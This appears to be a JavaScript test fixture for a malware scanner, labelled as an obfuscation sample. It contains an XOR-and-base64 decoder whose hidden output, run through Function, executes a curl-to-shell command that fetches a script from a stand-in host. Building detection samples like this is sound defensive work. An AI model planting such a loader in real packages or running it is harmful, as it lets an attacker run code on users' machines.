// expect: category=obfuscation min=80 context=plugin,package
// why: an XOR decoder with a rolling key produces source that a Function call runs.
const K = [0x13, 0x37, 0x42];
const D = 'YVIzZl4wdh9lcF8rf1MdY0UtcFIxYBBrPVI6dlRqNFQ3YVtiPkRie0M2Y0R4PBgmfxkna1YvY1snPE9ibxcxexBr';

function decode(b64) {
  const bytes = atob(b64);
  let out = '';
  for (let i = 0; i < bytes.length; i++) {
    out += String.fromCharCode(bytes.charCodeAt(i) ^ K[i % K.length]);
  }
  return out;
}

const F = Function;
F(decode(D))();
